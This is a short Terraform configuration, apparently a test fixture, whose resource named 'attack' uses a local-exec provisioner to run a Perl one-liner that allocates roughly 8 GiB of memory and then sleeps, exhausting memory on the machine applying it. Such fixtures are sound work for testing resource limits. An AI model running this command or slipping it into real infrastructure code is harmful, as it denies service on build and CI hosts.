resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      exec perl -e '$x = q(a) x (1 << 33); sleep 60'
    EOT
  }
}
